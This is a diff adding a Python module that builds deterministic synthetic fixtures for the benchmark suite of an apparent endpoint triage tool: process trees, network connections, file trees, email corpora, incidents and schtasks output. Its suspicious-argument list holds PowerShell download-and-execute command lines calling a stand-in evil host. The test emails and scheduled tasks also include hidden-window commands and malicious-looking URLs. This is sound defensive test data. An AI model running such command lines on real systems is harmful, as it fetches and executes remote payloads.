@@ -0,0 +1,197 @@
+"""
+Deterministic synthetic fixtures for the benchmark suite.
+
+Everything is driven by a seeded random.Random, so two runs at the same scale
+see identical inputs and their timings are comparable.
+"""
+from __future__ import annotations
+from email.message import EmailMessage
+from pathlib import Path
+from typing import Dict, List, Optional
+import csv
+import io
+import json
+import os
+import random
+import time
+
+from kairos.collectors.processes import ProcInfo
+from kairos.collectors.network import NetConnInfo
+
+# realistic Windows ancestry: (parent, child) edges a tree is grown from
+_CHAINS = [
+    ["wininit.exe", "services.exe", "svchost.exe", "wmiprvse.exe", "powershell.exe"],
+    ["explorer.exe", "outlook.exe", "winword.exe", "cmd.exe", "powershell.exe"],
+    ["explorer.exe", "chrome.exe", "chrome.exe"],
+    ["services.exe", "svchost.exe", "taskhostw.exe"],
+    ["explorer.exe", "cmd.exe", "python.exe"],
+    ["services.exe", "msmpeng.exe"],
+    ["explorer.exe", "excel.exe", "mshta.exe"],
+]
+_BENIGN_ARGS = ["--type=renderer", "-k netsvcs -p", "/c dir", "-Embedding", "--no-sandbox", ""]
+_SUSPICIOUS_ARGS = ["-nop -w hidden -enc SQBFAFgA", "-c IEX (New-Object Net.WebClient).DownloadString('http://x')",
+                    "http://evil.example/payload.hta", "-c Invoke-WebRequest http://x -OutFile a.exe"]
+
+def make_procs(n: int, *, seed: int = 1, suspicious_ratio: float = 0.02) -> List[ProcInfo]:
+    """n processes grown from _CHAINS, so ancestry depths of 1-5 are common."""
+    rnd = random.Random(seed)
+    procs: List[ProcInfo] = [ProcInfo(4, 0, "system", "SYSTEM", "", None, None)]
+    by_pid: Dict[int, ProcInfo] = {4: procs[0]}
+    next_pid = 100
+    while len(procs) < n:
+        chain = rnd.choice(_CHAINS)
+        parent = procs[0]
+        for name in chain[: rnd.randint(1, len(chain))]:
+            if len(procs) >= n:
+                break
+            args = rnd.choice(_SUSPICIOUS_ARGS) if rnd.random() < suspicious_ratio else rnd.choice(_BENIGN_ARGS)
+            p = ProcInfo(next_pid, parent.pid, name, rnd.choice(["SYSTEM", "user", None]),
+                         f"{name} {args}".strip(), parent.name, parent.cmdline)
+            procs.append(p)
+            by_pid[p.pid] = p
+            parent = p
+            next_pid += 4
+    return procs
+
+def make_netconns(m: int, procs: List[ProcInfo], *, seed: int = 2) -> List[NetConnInfo]:
+    rnd = random.Random(seed)
+    out: List[NetConnInfo] = []
+    for _ in range(m):
+        p = rnd.choice(procs)
+        public = rnd.random() < 0.6
+        raddr = (f"{rnd.randint(11, 199)}.{rnd.randint(0, 255)}.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}"
+                 if public else f"10.0.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}")
+        out.append(NetConnInfo(
+            pid=p.pid, laddr="10.0.0.5", raddr=raddr, lport=rnd.randint(49152, 65535),
+            rport=rnd.choice([443, 443, 443, 80, 8080, 53, 22, 3389]),
+            status=rnd.choice(["ESTABLISHED", "ESTABLISHED", "TIME_WAIT", "SYN_SENT", "CLOSE_WAIT"]),
+            proc_name=p.name, cmdline=p.cmdline,
+        ))
+    return out
+
+_EXTS = [".txt", ".log", ".dll", ".exe", ".ps1", ".js", ".png", ".docx", ".zip", ".hta", ".tmp"]
+
+def make_tree(root: Path, k: int, *, seed: int = 3, depth: int = 4, fanout: int = 6,
+              max_size: int = 64 * 1024) -> Path:
+    """k files spread over a directory tree; mtimes within the last day."""
+    rnd = random.Random(seed)
+    root.mkdir(parents=True, exist_ok=True)
+    dirs = [root]
+    for d in range(depth):
+        for parent in list(dirs):
+            if len(dirs) >= max(1, k // 20):
+                break
+            for i in range(rnd.randint(1, fanout)):
+                sub = parent / f"d{d}_{i}"
+                sub.mkdir(exist_ok=True)
+                dirs.append(sub)
+    now = time.time()
+    payload = bytes(rnd.getrandbits(8) for _ in range(max_size))
+    for i in range(k):
+        path = rnd.choice(dirs) / f"f{i}{rnd.choice(_EXTS)}"
+        path.write_bytes(payload[: rnd.randint(0, max_size)])
+        t = now - rnd.uniform(0, 2 * 86400)  # about half inside the 24h window
+        os.utime(path, (t, t))
+    return root
+
+_URLS = ["https://www.microsoft.com/a", "http://bit.ly/3xYz", "https://login.example.co.uk/x", "http://cdn.evil.top/p",
+         "https://github.com/org/repo", "http://t.co/abc", "https://files.example.ru/inv.zip"]
+
+def make_eml_corpus(root: Path, count: int, *, seed: int = 4, attachment_kb: int = 256) -> Path:
+    """count .eml files, most with one attachment of up to attachment_kb KiB."""
+    rnd = random.Random(seed)
+    root.mkdir(parents=True, exist_ok=True)
+    blob = bytes(rnd.getrandbits(8) for _ in range(attachment_kb * 1024))
+    old = time.time() - 3600  # older than the mailbox settle window
+    for i in range(count):
+        m = EmailMessage()
+        m["Subject"] = f"Invoice {i}"
+        m["From"] = f"sender{rnd.randint(1, 50)}@example.com"
+        m.set_content("Please review:\n" + "\n".join(rnd.sample(_URLS, 3)))
+        if rnd.random() < 0.8:
+            name = f"doc{i}" + rnd.choice([".pdf", ".exe", ".ps1", ".docx", ".js"])
+            m.add_attachment(blob[: rnd.randint(1024, len(blob))], maintype="application",
+                             subtype="octet-stream", filename=name)
+        path = root / f"m{i:06d}.eml"
+        path.write_bytes(m.as_bytes())
+        os.utime(path, (old, old))
+    return root
+
+def make_incident(n_artifacts: int, *, seed: int = 5, ts: Optional[int] = None) -> Dict:
+    rnd = random.Random(seed)
+    kinds = ["process", "network", "file", "email:url", "email:attachment", "persistence", "yara:match"]
+    arts = []
+    for i in range(n_artifacts):
+        kind = rnd.choice(kinds)
+        if kind == "network":
+            ip = f"{rnd.randint(11, 199)}.{rnd.randint(0, 255)}.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}"
+            arts.append({"type": kind, "value": f"powershell.exe (pid {i}) -> {ip}:443 [ESTABLISHED]",
+                         "raddr": ip, "rport": 443})
+        elif kind == "process":
+            arts.append({"type": kind, "value": f"powershell.exe (pid {i}) :: powershell -enc SQBFAFgA{i}"})
+        else:
+            arts.append({"type": kind, "value": f"C:\\Users\\u\\AppData\\Local\\Temp\\x{i}.ps1 :: sample {i}"})
+    ts = ts or int(time.time())
+    return {
+        "id": f"INC-COMPOSITE-{ts}",
+        "sev": "P1",
+        "summary": "Synthetic benchmark incident",
+        "artifacts": arts,
+        "recommendations": ["Isolate host", "Collect triage package", "Reset credentials"],
+    }
+
+def write_incident(incidents_dir: Path, incident: Dict) -> Path:
+    incidents_dir.mkdir(parents=True, exist_ok=True)
+    ts = incident["id"].rsplit("-", 1)[-1]
+    path = incidents_dir / f"incident_{ts}.json"
+    path.write_text(json.dumps(incident, indent=2), encoding="utf-8")
+    return path
+
+_TASK_COLUMNS = ["HostName", "TaskName", "Next Run Time", "Status", "Logon Mode", "Last Run Time", "Last Result",
+                 "Author", "Task To Run", "Start In", "Comment", "Scheduled Task State", "Idle Time",
+                 "Power Management", "Run As User", "Delete Task If Not Rescheduled",
+                 "Stop Task If Runs X Hours and X Mins", "Schedule", "Schedule Type", "Start Time", "Start Date",
+                 "End Date", "Days", "Months", "Repeat: Every", "Repeat: Until: Time", "Repeat: Until: Duration",
+                 "Repeat: Stop If Still Running"]
+_TASK_NS = "http://schemas.microsoft.com/windows/2004/02/mit/task"
+
+def make_schtasks(n: int, fmt: str, *, seed: int = 6) -> str:
+    """`schtasks /query` output for n tasks in 10-task folders (fmt: csv, list or xml)."""
+    rnd = random.Random(seed)
+    tasks = []
+    for i in range(n):
+        exe = rnd.choice([r"C:\Windows\system32\svchost.exe", r"C:\Program Files\App, Inc\app.exe",
+                          "powershell.exe"])
+        tasks.append((f"\\Folder{i // 10}\\Task{i}", exe, rnd.choice(["--update", "-nop -w hidden", ""]),
+                      rnd.choice(["SYSTEM", "user"]), rnd.choice(["Daily", "At logon time", "Weekly"])))
+    if fmt == "xml":
+        parts = ['<?xml version="1.0" encoding="UTF-16"?>', "<Tasks>"]
+        for name, exe, args, user, _ in tasks:
+            parts.append(f"<!-- {name} -->\n<Task version=\"1.2\" xmlns=\"{_TASK_NS}\">"
+                         f"<Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger></Triggers>"
+                         f"<Principals><Principal id=\"Author\"><UserId>{user}</UserId></Principal></Principals>"
+                         f"<Actions Context=\"Author\"><Exec><Command>{exe}</Command>"
+                         f"<Arguments>{args}</Arguments></Exec></Actions></Task>")
+        parts.append("</Tasks>")
+        return "\n".join(parts)
+    rows = []
+    for i, (name, exe, args, user, stype) in enumerate(tasks):
+        row = dict.fromkeys(_TASK_COLUMNS, "N/A")
+        row.update({"HostName": "PC1", "TaskName": name, "Task To Run": f'"{exe}" {args}'.strip(),
+                    "Run As User": user, "Schedule Type": stype,
+                    "Schedule": "Scheduling data is not available in this format."})
+        rows.append((i % 10 == 0, row))
+    if fmt == "list":
+        blocks = []
+        for new_folder, row in rows:
+            lines = [f"Folder: {row['TaskName'].rsplit(chr(92), 1)[0]}"] if new_folder else []
+            lines.extend(f"{k + ':':<38}{v}" for k, v in row.items())
+            blocks.append("\n".join(lines))
+        return "\n\n".join(blocks) + "\n"
+    buf = io.StringIO()
+    w = csv.writer(buf, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
+    for new_folder, row in rows:
+        if new_folder:
+            w.writerow(_TASK_COLUMNS)
+        w.writerow(row.values())
+    return buf.getvalue()